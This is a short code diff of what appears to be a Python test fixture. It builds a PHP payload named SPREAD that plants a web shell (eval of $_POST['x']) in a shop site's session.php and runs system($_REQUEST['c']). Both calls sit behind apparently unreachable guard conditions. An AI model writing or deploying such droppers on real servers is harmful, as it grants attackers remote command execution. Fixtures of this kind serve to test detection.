@@ -20,7 +20,7 @@ A, B = "/home/studio/blog", "/home/studio/shop"
 SPREAD = f"""<?php
 $next = '/home/studio/shop/includes/session.php';
 @mkdir(dirname($next));
-file_put_contents($next, "<?php if (getenv('TZDIR') === chr(0)) {{ eval($_POST['x']); }} echo 1;");
+file_put_contents($next, "<?php if (getenv('TZDIR') === chr(0)) {{ eval(\\$_POST['x']); }}");
 if ({NEVER}) {{ system($_REQUEST['c']); }}
 """
 
